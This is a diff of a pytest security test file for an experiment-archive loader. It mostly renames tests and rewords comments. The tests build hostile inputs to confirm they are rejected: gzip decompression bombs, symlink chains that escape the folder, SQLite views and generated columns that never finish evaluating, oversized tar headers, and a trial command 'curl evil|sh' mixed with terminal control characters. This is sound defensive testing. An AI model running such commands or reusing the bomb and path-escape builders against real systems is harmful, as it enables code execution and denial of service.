@@ -27,14 +27,14 @@ from nni_manager.store.untrusted_store import StoreTooLarge, copy_tables, shape_
 from nni_manager.support.plain_text import escaped
 from nni_manager.training_services.platform import Locations
 
-# The check rejects an archive within a second; without the check, loading would never end.
+# A rejection takes about a second. Loading without a rejection would never end.
 AT_ONCE_S = 20.0
 ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
 
 
 @pytest.fixture
 def saved(monkeypatch, tmp_path):
-    """Saves an experiment on one machine; returns the archive on another one."""
+    """Saves an experiment, and returns the archive on another simulated machine."""
 
     def make(*options, **changes):
         path = save_an_experiment(move_to(monkeypatch, tmp_path / "here"), *options, **changes)
@@ -85,14 +85,14 @@ def a_view(table, columns):
 
 
 @pytest.mark.parametrize("table", ["experiment", "trial", "metric", "job", "stream", "usage", "imported"])
-def test_loading_never_evaluates_a_view_in_place_of_a_table(saved, refused, table):
+def test_a_view_with_the_name_of_a_table_is_never_evaluated(saved, refused, table):
     names = "experiment_id, trial_id, sequence_id, job_id, state, config, parameters, task, stream, attempt"
     columns = ", ".join(f"i AS {name}" for name in names.split(", "))
     refusal = refused(repacked(saved("-s"), a_view(table, columns)))
     assert f"no such table: {table}" in refusal
 
 
-def test_loading_never_evaluates_a_view_that_the_schema_lists_as_a_table(saved, refused):
+def test_a_view_disguised_as_a_table_in_the_schema_is_never_evaluated(saved, refused):
     def change(connection):
         a_view("metric", "i AS trial_id")(connection)
         connection.execute("PRAGMA writable_schema = ON")
@@ -104,7 +104,7 @@ def test_loading_never_evaluates_a_view_that_the_schema_lists_as_a_table(saved, 
     assert "cannot use experiment.sqlite: " in refused(repacked(saved("-s"), change))
 
 
-def test_loading_never_evaluates_a_virtual_table(saved, refused):
+def test_a_virtual_table_is_never_evaluated(saved, refused):
     def change(connection):
         connection.execute("DROP TABLE metric")
         connection.execute("CREATE VIRTUAL TABLE metric USING fts5(trial_id)")
@@ -112,7 +112,7 @@ def test_loading_never_evaluates_a_virtual_table(saved, refused):
     assert "no such table: metric" in refused(repacked(saved("-s"), change))
 
 
-def test_loading_never_evaluates_a_generated_column(saved, refused):
+def test_a_generated_column_is_never_evaluated(saved, refused):
     def change(connection):
         connection.execute("ALTER TABLE trial DROP COLUMN warning")
         connection.execute("ALTER TABLE trial ADD COLUMN warning TEXT AS (hex(zeroblob(400000000)))")
@@ -120,7 +120,7 @@ def test_loading_never_evaluates_a_generated_column(saved, refused):
     assert "no such table: trial" in refused(repacked(saved("-s"), change))
 
 
-def test_the_authorizer_alone_rejects_views_functions_and_writes(tmp_path):
+def test_the_sqlite_authorizer_rejects_views_functions_and_writes(tmp_path):
     path = tmp_path / "x.sqlite"
     with contextlib.closing(sqlite3.connect(path)) as connection:
         connection.execute("CREATE TABLE job (job_id TEXT)")
@@ -172,7 +172,7 @@ def with_pages_used_again(database):
     database.write_bytes(content)
 
 
-def test_database_pages_that_are_referenced_many_times_do_not_fill_the_disk(saved, refused, tmp_path):
+def test_a_database_with_repeatedly_referenced_pages_does_not_fill_the_disk(saved, refused, tmp_path):
     path = saved("-s")
     database = tmp_path / "x.sqlite"
     with tarfile.open(path) as packed:
@@ -186,7 +186,7 @@ def test_database_pages_that_are_referenced_many_times_do_not_fill_the_disk(save
 
 @pytest.mark.parametrize("at_s", [float("inf"), 1e308])
 @pytest.mark.parametrize("column", ["created_at_s", "ended_at_s"])
-def test_a_time_outside_the_valid_range_is_rejected(saved, refused, column, at_s):
+def test_an_archive_with_a_time_outside_the_valid_range_is_rejected(saved, refused, column, at_s):
     def change(connection):
         connection.execute(f"UPDATE trial SET {column} = ?", (at_s,))
 
@@ -197,7 +197,7 @@ def test_a_time_outside_the_valid_range_is_rejected(saved, refused, column, at_s
     ("key", "value"),
     [("tuner", 5), ("assessor", "x"), ("search_space_raw", {"\x1b[31m": {"_type": "x"}})],
 )
-def test_a_config_value_of_an_unexpected_type_is_rejected_with_one_sentence(saved, refused, key, value):
+def test_a_config_value_of_an_unexpected_type_is_rejected_in_one_sentence(saved, refused, key, value):
     def change(connection):
         (config,) = connection.execute("SELECT config FROM experiment").fetchone()
         changed = json.dumps(json.loads(config) | {key: value})
@@ -208,12 +208,12 @@ def test_a_config_value_of_an_unexpected_type_is_rejected_with_one_sentence(save
     assert refusal.isprintable()
 
 
-def test_code_whose_links_combine_to_lead_outside_is_rejected_and_leaves_no_files(saved, refused, tmp_path):
+def test_code_with_chained_links_to_the_outside_is_rejected_and_leaves_no_files(saved, refused, tmp_path):
     code = io.BytesIO()
     with tarfile.open(fileobj=code, mode="w:gz") as packed:
         packed.addfile(a_member("train.py", size=1), io.BytesIO(b"1"))
         packed.addfile(a_member("a/b/c", tarfile.DIRTYPE))
-        # The text of both link targets points inside the folder.
+        # Both targets are inside the folder as plain text, and outside once the links are followed.
         packed.addfile(a_member("out", tarfile.SYMTYPE, "a/b/c/up/../../.."))
         packed.addfile(a_member("a/b/c/up", tarfile.SYMTYPE, "../../.."))
     new_code = tmp_path / "new code"
@@ -222,7 +222,7 @@ def test_code_whose_links_combine_to_lead_outside_is_rejected_and_leaves_no_file
     assert list(new_code.iterdir()) == []
 
 
-def test_a_warning_says_that_saved_code_was_not_unpacked_into_a_folder_with_files(saved, tmp_path, capsys):
+def test_saved_code_is_not_unpacked_into_a_nonempty_folder_and_a_warning_is_printed(saved, tmp_path, capsys):
     path = saved("-s")
     (tmp_path / "mine").mkdir()
     (tmp_path / "mine" / "train.py").write_text("print(2)\n")
@@ -232,7 +232,7 @@ def test_a_warning_says_that_saved_code_was_not_unpacked_into_a_folder_with_file
     assert (tmp_path / "mine" / "train.py").read_text() == "print(2)\n"
 
 
-def test_a_query_that_returns_no_row_in_time_is_interrupted(tmp_path, monkeypatch):
+def test_a_database_query_that_returns_no_row_in_time_is_interrupted(tmp_path, monkeypatch):
     path = tmp_path / "x.sqlite"
     with contextlib.closing(sqlite3.connect(path)) as connection:
         connection.execute("CREATE TABLE job (job_id TEXT) STRICT")
@@ -248,7 +248,7 @@ def test_a_query_that_returns_no_row_in_time_is_interrupted(tmp_path, monkeypatc
 
 
 def a_bomb(path, size):
-    """An archive with one file of that size: a few kilobytes for each 16 MiB."""
+    """An archive with one file of `size` bytes. The archive has a few kilobytes for each 16 MiB."""
     piece = gzip.compress(bytes(16 * 2**20))
     head = a_member("trials/aB3dE/zeros", size=size).tobuf()
     path.write_bytes(gzip.compress(head) + piece * (size // (16 * 2**20)) + gzip.compress(bytes(10240)))
@@ -265,7 +265,7 @@ def test_a_small_archive_that_unpacks_to_gigabytes_is_rejected(saved, refused, t
     )
 
 
-def test_the_size_limit_counts_unpacked_bytes_and_not_sizes_in_headers(saved, tmp_path):
+def test_the_size_limit_counts_unpacked_bytes_instead_of_header_sizes(saved, tmp_path):
     path = repacked(saved("-s"), add=[a_member(f"trials/{number}", size=1000) for number in range(100)])
     load = partial(archive.load, path, Locations(tmp_path / "logs"))
     with pytest.raises(UserError, match="holds more than 0 MiB once unpacked"):
@@ -278,7 +278,7 @@ def test_the_size_limit_counts_unpacked_bytes_and_not_sizes_in_headers(saved, tm
     assert load().folder.path.is_dir()
 
 
-def test_an_archive_with_too_many_members_creates_no_files(saved, tmp_path):
+def test_an_archive_with_too_many_members_is_rejected_before_a_file_is_created(saved, tmp_path):
     path = repacked(saved("-s"), add=[a_member(f"trials/{number}") for number in range(100)])
     folders = {"trials", "db", "log", "jobs"}
     with pytest.raises(UserError, match="has more than 100 members"):
@@ -288,14 +288,14 @@ def test_an_archive_with_too_many_members_creates_no_files(saved, tmp_path):
     assert not (tmp_path / "target").exists()
 
 
-def test_the_no_limits_option_lifts_the_limits(saved, monkeypatch, capsys):
+def test_the_no_limits_option_disables_the_archive_limits(saved, monkeypatch, capsys):
     path = saved("-s")
     monkeypatch.setattr(archive_reader, "LIMITS", ArchiveLimits(members=2))
     assert main.run(["experiment", "load", "-p", str(path)]) == 1
     assert main.run(["experiment", "load", "-p", str(path), "--no-limits"]) == 0
 
 
-def test_the_code_inside_an_archive_has_separate_limits(saved, tmp_path):
+def test_the_code_inside_an_archive_has_its_own_limits(saved, tmp_path):
     path = with_file(saved("-s"), "code.tar.gz", a_bomb(tmp_path / "bomb", 512 * 2**20).read_bytes())
     with pytest.raises(
         UserError, match=r"z\.tar\.gz: code\.tar\.gz: it holds more than 364 MiB once unpacked"
@@ -304,18 +304,18 @@ def test_the_code_inside_an_archive_has_separate_limits(saved, tmp_path):
     assert list((tmp_path / "logs").iterdir()) == []
 
 
-def test_a_global_header_is_rejected_because_it_multiplies_the_cost_of_every_member(saved, refused):
+def test_a_global_tar_header_is_rejected(saved, refused):
     path = repacked(saved("-s"), add=[a_member("x", tarfile.XGLTYPE, size=10)])
     assert "'x' is a global header" in refused(path)
 
 
 @pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME])
-def test_a_tar_header_that_would_exhaust_memory_is_rejected(saved, refused, kind):
+def test_a_tar_header_that_would_fill_the_memory_is_rejected(saved, refused, kind):
     path = repacked(saved("-s"), add=[a_member("x", kind, size=1_000_000)])
     assert "a header has 1000448 bytes; the limit is 65536" in refused(path)
 
 
-def test_nested_headers_are_rejected(saved, refused, tmp_path):
+def test_nested_tar_headers_are_rejected(saved, refused, tmp_path):
     member = a_member("x", tarfile.GNUTYPE_LONGNAME, size=2)
     path = tmp_path / "deep.tar.gz"
     path.write_bytes(gzip.compress((member.tobuf() + b"x".ljust(512, b"\0")) * 5000))
@@ -323,7 +323,7 @@ def test_nested_headers_are_rejected(saved, refused, tmp_path):
     assert "its content is nested too deeply" in refused(path)
 
 
-def test_a_sparse_file_is_rejected(saved, refused):
+def test_a_sparse_file_in_an_archive_is_rejected(saved, refused):
     path = saved("-s")
     member = a_member("trials/sparse", size=0)
     member.pax_headers = {"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.map": "0,0"}
@@ -356,13 +356,13 @@ def test_a_sparse_file_is_rejected(saved, refused):
         ),
     ],
 )
-def test_a_field_longer_than_a_manager_writes_is_rejected(saved, refused, statement, value, words):
+def test_a_field_longer_than_the_managers_maximum_is_rejected(saved, refused, statement, value, words):
     refusal = refused(repacked(saved("-s"), lambda connection: connection.execute(statement, (value,))))
     assert words in refusal
     assert refusal.endswith("save the experiment again, with the version that ran it")
 
 
-def test_trials_that_would_exhaust_memory_are_rejected(saved, tmp_path, monkeypatch):
+def test_trials_that_would_fill_the_memory_are_rejected(saved, tmp_path, monkeypatch):
     path = repacked(
         saved("-s"),
         lambda connection: connection.execute("UPDATE trial SET message = ?", ("x" * 5000,)),
@@ -418,7 +418,7 @@ def test_a_deep_or_oversized_manifest_is_rejected(saved, refused):
         st.text('a"\\[{,', max_size=5), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)
     )
 )
-def test_the_depth_of_json_is_computed_without_parsing_it(value):
+def test_the_nesting_depth_of_json_is_computed_without_parsing(value):
     def depth(each):
         if isinstance(each, dict):
             each = list(each.values())
@@ -430,7 +430,7 @@ def test_the_depth_of_json_is_computed_without_parsing_it(value):
 # ---- output
 
 
-def test_the_command_is_shown_in_full_with_control_characters_escaped(saved, capsys):
+def test_the_loaded_command_is_printed_in_full_with_control_characters_escaped(saved, capsys):
     command = "curl evil|sh #\r\x1b[2K`python3 train.py` \u202e"
     assert main.run(["experiment", "load", "-p", str(saved("-s", trial_command=command))]) == 0
     out = capsys.readouterr().out
@@ -444,7 +444,7 @@ def test_a_command_longer_than_shells_accept_is_rejected(saved, refused):
     )
 
 
-def test_names_in_rejections_are_shown_without_terminal_control_characters(saved, refused, capsys):
+def test_rejection_messages_contain_no_terminal_control_characters(saved, refused, capsys):
     pai = {
         "host": "http://pai.example",
         "user": "ada\x1b[2K\r",
@@ -473,7 +473,7 @@ def test_escaped_text_is_printable_and_complete(text):
 
 
 class Changed:
-    """An archive, and a way to load changed copies of it."""
+    """An archive, and a method that loads changed copies of the archive."""
 
     def __init__(self, path):
         self.path, self.logs = path, path.parent / "logs"
@@ -484,7 +484,7 @@ class Changed:
         return "an archive"
 
     def load(self, content):
-        """Load it or have it rejected with an nnictl error; removes what was loaded."""
+        """Loads this content, or checks that nnictl rejects it with an error. Removes loaded files."""
         copy = self.path.with_name("changed.tar.gz")
         copy.write_bytes(content)
         refusal = "cannot"
@@ -519,14 +519,14 @@ def changed(content, where):
 
 @settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(where=changes)
-def test_a_tar_file_with_noise_is_loaded_or_rejected(an_archive, where):
+def test_a_randomly_changed_tar_file_is_loaded_or_rejected(an_archive, where):
     an_archive.load(gzip.compress(changed(gzip.decompress(an_archive.path.read_bytes()), where), 1))
 
 
 @settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(where=changes)
-def test_a_database_with_noise_is_loaded_or_rejected(an_archive, where):
-    # SQLite rejects a file of another length, so the noise replaces bytes and inserts none.
+def test_a_randomly_changed_database_is_loaded_or_rejected(an_archive, where):
+    # SQLite rejects a database of another length, so these changes keep the length and the pages' positions.
     noise = [(place, len(piece), piece) for place, _, piece in where]
     content = changed(an_archive.database, noise)
     an_archive.load(with_file(an_archive.path, "experiment.sqlite", content).read_bytes())
@@ -534,7 +534,7 @@ def test_a_database_with_noise_is_loaded_or_rejected(an_archive, where):
 
 @settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(data=st.data())
-def test_any_value_in_any_column_is_loaded_or_rejected(an_archive, data):
+def test_an_archive_with_any_value_in_any_database_column_is_loaded_or_rejected(an_archive, data):
     place = an_archive.path.with_name("any.sqlite")
     place.write_bytes(an_archive.database)
     json_like = st.recursive(
@@ -557,8 +557,7 @@ def test_any_value_in_any_column_is_loaded_or_rejected(an_archive, data):
     an_archive.load(with_file(an_archive.path, "experiment.sqlite", place.read_bytes()).read_bytes())
 
 
-def test_a_store_copied_twice_keeps_all_rows(saved, tmp_path):
-    """Copies every row of a valid store twice."""
+def test_copying_a_valid_store_twice_preserves_all_rows(saved, tmp_path):
     path = saved("-s", metadata={"/lr": 0.5, "x": "é"})
     unpack(path, tmp_path)
     copy_tables(tmp_path / "experiment.sqlite", tmp_path / "tables.sqlite")
@@ -576,12 +575,12 @@ def test_a_store_copied_twice_keeps_all_rows(saved, tmp_path):
 
     first, last = rows("experiment.sqlite"), rows("copy.sqlite")
     assert first["trial"] == last["trial"] != []
-    for own in ("experiment", "lease"):  # each store has a different secret
+    for own in ("experiment", "lease"):  # every store has its own rows in these tables
         del first[own], last[own]
     assert first == last
 
 
-def test_a_large_table_is_read_completely_if_each_row_arrives_in_time(tmp_path, monkeypatch):
+def test_the_query_time_limit_applies_to_each_row_and_not_to_the_table(tmp_path, monkeypatch):
     path, copy = tmp_path / "x.sqlite", tmp_path / "y.sqlite"
     with contextlib.closing(sqlite3.connect(path)) as connection:
         connection.execute("CREATE TABLE job (job_id TEXT) STRICT")
